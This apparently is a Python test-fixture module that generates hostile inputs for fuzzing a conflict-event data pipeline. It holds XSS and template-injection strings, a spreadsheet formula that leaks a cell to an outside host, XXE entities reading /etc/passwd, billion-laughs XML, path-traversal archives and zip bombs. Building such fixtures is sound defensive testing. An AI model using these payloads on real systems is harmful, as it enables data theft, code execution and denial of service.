"""Bad inputs of every kind, made on the spot: what strangers, accidents and attackers put into files.

Tests build a map from each of them (``tests/hostile``), and ``tools/fuzz.py`` mutates them further.
Nothing here is harmful to read about or to open; nothing of it is stored.
"""

from __future__ import annotations

import io
import json
import zipfile

SCRIPT = "</script><img src=x onerror=alert(1)><svg onload=alert(2)>{{7*7}}{% raw %}${7*7}`x`</title><!--"
TEMPLATE = "{{ cycler.__init__.__globals__.os.system('touch hostile-was-here') }}"
BIDI = "\u202eamaH\u202c \u2066Ho\u2069ms H\u200ba\u200cm\u200da \ufeffHama"
HOMOGLYPHS = "Наmа, Alерро and Ноms fell on Monday."
FORMULA = '=HYPERLINK("http://example.org?leak="&A1,"Hama")'
HEADER = "event_date,location,latitude,longitude,notes,fatalities"

_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(1, 9))
    + "]>"
)
_KML = '<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>{}</name>{}</Placemark></Document></kml>'
_POINT = "<Point><coordinates>36.75,35.13</coordinates></Point>"


def texts() -> dict[str, str]:
    """Give hostile reports: name to text."""
    long = 20_000
    return {
        "script": f"Rebels entered Hama on Monday. {SCRIPT} They said {SCRIPT} in Homs.",
        "template": f"Rebels entered Hama on Monday. {TEMPLATE} {TEMPLATE}",
        "bidi": f"Rebels entered {BIDI} on Monday.",
        "homoglyphs": HOMOGLYPHS,
        "controls": "Rebels \x00\x01 entered \x1b[31mHama\x07 on Monday.\x9f\ufffe\uffff",
        "combining": "Rebels entered H" + "\u0301" * long + "ama on Monday.",
        "one-letter": "a" * long,
        "one-word": "word " * (long // 5),
        "one-name": "Hama " * (long // 5),
        "names": "Hama, Homs, Aleppo, Idlib, Raqqa, " * 100 + "fell.",
        "sentences": "Rebels entered Hama on Monday. " * (long // 31),
        "dots": "Hama. " * (long // 6),
        "numbers": "hundred thousand " * (long // 17),
        "digits": "1" * long,
        "dates": "on Monday 3 December 2024 " * (long // 26),
        "odd-dates": "On 31 February 1527 and 99 December 2202 shelling hit Hama. On 0/0/0000 as well.",
        "quotes": '"' * long,
        "brackets": "([{<" * (long // 4),
        "blank": " \t\r\n\u3000" * (long // 5),
        "spaces-then-x": " " * long + "x",
        "of-of": "north of " * (long // 9) + "Hama",
        "km-of": "15 km north of " * (long // 15) + "Hama",
        "far": "Shelling 999999999999999999999 km north of Hama and 0 km south of Homs and -5 km of Aleppo.",
        "addresses": "https://" * (long // 8),
        "furniture": "read more " * (long // 10),
        "tags": "tags: " + "a " * (long // 2) + "!",
        "arabic": "في مدينة حماة " * (long // 14),
        "marks": "\u0655دينة حماة قصفت \u0655 يوم \u0651 3",
        "mixed": "حماة Hama Хама \u202b" * 500,
    }


def files() -> dict[str, bytes]:
    """Give hostile files: name to bytes."""
    found = {f"report-{name}.txt": text.encode() for name, text in texts().items()}
    found |= {f"table-{name}.csv": text.encode() for name, text in tables().items()}
    return found | _json_files() | _xml_files() | _archives() | _bytes()


def tables() -> dict[str, str]:
    """Give hostile delimited tables: name to text. Each has one sound row, in Hama, which must survive."""
    sound = "2024-12-01,Hama,35.13,36.75,sound row,1"
    rows = {
        "script": f'2024-12-01,"{SCRIPT}",35.13,36.75,"{SCRIPT}",1',
        "template": f'2024-12-01,"{TEMPLATE}",35.13,36.75,"{TEMPLATE}",1',
        "formula": f'2024-12-01,"{FORMULA.replace(chr(34), chr(34) * 2)}",35.13,36.75,@SUM(A1),1',
        "bidi": f"2024-12-01,{BIDI},35.13,36.75,{BIDI},1",
        "not-numbers": "2024-12-01,Hama,nan,inf,x,NaN\n2024-12-01,Hama,north,-,x,many",
        "out-of-range": "2024-12-01,Hama,1e308,36.75,x,1\n2024-12-01,Hama,35.13,4000,x,1\n2024-12-01,Hama,-91,181,x,-4",
        "swapped": "2024-12-01,Kharkiv,136.7,35.1,x,1",
        "odd-dates": "1527-12-01,Hama,35.13,36.75,x,1\n2202-12-01,Hama,35.13,36.75,x,1\n2024-02-31,Hama,35.13,36.75,x,1",
        "huge-numbers": f"2024-12-01,Hama,35.13,36.75,x,{'9' * 400}\n2024-12-01,Hama,{'3' * 5000},36.75,x,1",
        "poles": "2024-12-01,Pole,90,180,x,1\n2024-12-01,Pole,-90,-180,x,1\n2024-12-01,Line,0,180,x,1",
        "ragged": "2024-12-01,Hama\n,,,,,,,,,,,,\n2024-12-01,Hama,35.13,36.75,x,1,2,3,4,5",
        "unclosed": '2024-12-01,"Hama,35.13,36.75,x,1',
        "long-cell": f"2024-12-01,Hama,35.13,36.75,{'x' * 200_000},1",
        "nul": "2024-12-01,Ha\x00ma,35.13,36.75,\x00,1",
    }
    return {name: f"{HEADER}\n{sound}\n{bad}\n" for name, bad in rows.items()}


def _json_files() -> dict[str, bytes]:
    def collection(*geometries: object) -> bytes:
        features = [
            {
                "type": "Feature",
                "properties": {"name": SCRIPT, "date": "2024-12-01", "event": "clash"},
                "geometry": g,
            }
            for g in geometries
        ]
        return json.dumps({"type": "FeatureCollection", "features": features}).encode()

    point = {"type": "Point", "coordinates": [36.75, 35.13]}
    return {
        "deep.json": b"[" * 100_000,
        "deep-object.json": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
        "surrogate.json": b'[{"text": "Rebels entered Hama \\ud800 on Monday.", "date": "2024-12-01"}]',
        "surrogate.jsonl": b'{"text": "Rebels entered Hama \\ud800 on Monday."}\n{"text": "Rebels entered Homs on Monday."}\n',
        "number.json": b"1" * 100_000,
        "infinite.geojson": b'{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},"geometry":'
        b'{"type":"Point","coordinates":[Infinity,NaN]}}]}',
        "bow-tie.geojson": collection(
            point, {"type": "Polygon", "coordinates": [[[36, 35], [37, 36], [37, 35], [36, 36], [36, 35]]]}
        ),
        "antimeridian.geojson": collection(
            point,
            {"type": "Polygon", "coordinates": [[[170, 0], [-170, 0], [-170, 10], [170, 10], [170, 0]]]},
        ),
        "out-of-range.geojson": collection(point, {"type": "Point", "coordinates": [1e300, -1e300]}),
        "wrong-shape.geojson": collection(
            point, {"type": "Point", "coordinates": "36,35"}, {"type": "Nonsense"}, 3, None
        ),
        "open-ring.geojson": collection(point, {"type": "Polygon", "coordinates": [[[36, 35], [37, 36]]]}),
        "cut-off.geojson": collection(point)[:-40],
        "empty-shapes.geojson": collection(
            point, {"type": "Point", "coordinates": []}, {"type": "Polygon", "coordinates": []}
        ),
        "no-features.geojson": b'{"type":"FeatureCollection","features":[]}',
    }


def _xml_files() -> dict[str, bytes]:
    outside = '<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return {
        "laughs.kml": (_LAUGHS + _KML.format("&i;", _POINT)).encode(),
        "outside.kml": (outside + _KML.format("&x;", _POINT)).encode(),
        "script.kml": _KML.format(f"<![CDATA[{SCRIPT}]]>", _POINT).encode(),
        "odd-place.kml": _KML.format("x", "<Point><coordinates>nan,inf</coordinates></Point>").encode(),
        "cut-off.kml": _KML.format("Hama", _POINT).encode()[:120],
        "laughs.rss": (_LAUGHS + "<rss><channel><item><title>&i;</title></item></channel></rss>").encode(),
        "page.html": f"<html><body><h1>Hama</h1><p>Rebels entered Hama. {SCRIPT}</p><script>while(1);</script>".encode(),
        "deep.html": b"<div>" * 50_000 + b"Rebels entered Hama.",
        "attributes.html": b"<p " + b"a=b " * 50_000 + b">Rebels entered Hama.</p>",
    }


def _archives() -> dict[str, bytes]:
    def packed(members: dict[str, bytes]) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, content in members.items():
                archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
        return out.getvalue()

    kml = _KML.format("Hama", _POINT).encode()
    bomb = packed({f"{n}.txt": bytes(40_000_000) for n in range(8)})
    content_types = (
        b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]><Types>&x;</Types>'
    )
    return {
        "traversal.kmz": packed({"../../escaped.kml": kml, "/tmp/escaped.kml": kml}),
        "bomb.zip": bomb,
        "bomb.kmz": packed({"doc.kml": b" " * 400_000_000}),
        "nested.zip": packed({"a.zip": packed({"b.zip": packed({"c.txt": b"Rebels entered Hama."})})}),
        "outside.xlsx": packed({"[Content_Types].xml": content_types, "xl/workbook.xml": b"<workbook/>"}),
        "cut-off.xlsx": packed({"[Content_Types].xml": b"<Types/>"})[:60],
        "cut-off.zip": bomb[:1000],
        "damaged-member.zip": packed({"a.txt": b"Rebels entered Hama."}).replace(
            b"PK\x03\x04", b"PK\x03\x05", 1
        ),
        "damaged-stream.zip": packed({"a.txt": b"Rebels entered Hama." * 20}).replace(b"a.txt", b"b.txt", 1),
        "one-bad-member.zip": packed(
            {
                "a.txt": b"Rebels entered Hama on Monday.",
                "b.txt": b"",
                "c.txt": bytes(100),
                "d.zip": packed({"a.txt": b"Rebels."}),
                "e.txt": b"Rebels entered Homs on Monday.",
            }
        ),
        "many.zip": packed({f"{n}.txt": b"x" for n in range(5_000)}),
    }


def _bytes() -> dict[str, bytes]:
    return {
        "empty.csv": b"",
        "empty.txt": b"",
        "empty.geojson": b"",
        "header-only.csv": (HEADER + "\n").encode(),
        "zeros.bin": bytes(100_000),
        "zeros.csv": bytes(10_000),
        "random.csv": bytes(range(256)) * 400,
        "latin-1.csv": f"{HEADER}\n2024-12-01,Hamá,35.13,36.75,sound row,1\n".encode("latin-1"),
        "utf-16.csv": f"{HEADER}\n2024-12-01,Hama,35.13,36.75,sound row,1\n".encode("utf-16"),
        "utf-16-cut.csv": f"{HEADER}\n2024-12-01,Hama,35.13,36.75,x,1\n".encode("utf-16")[:-1],
        "bad-utf-8.txt": b"Rebels entered Hama \xff\xfe\xc3\x28 on Monday.",
        "parquet.parquet": b"PAR1" + bytes(1000) + b"PAR1",
        "sqlite.gpkg": b"SQLite format 3\x00" + bytes(4000),
        "flat.fgb": b"fgb\x03fgb\x00" + b"\xff" * 1000,
        "shape.shp": b"\x00\x00\x27\x0a" + b"\xff" * 200,
        "picture.png": b"\x89PNG\r\n\x1a\n" + bytes(1000),
        "paper.pdf": b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 1 0 R>>\nendobj\ntrailer<</Root 1 0 R>>",
    }
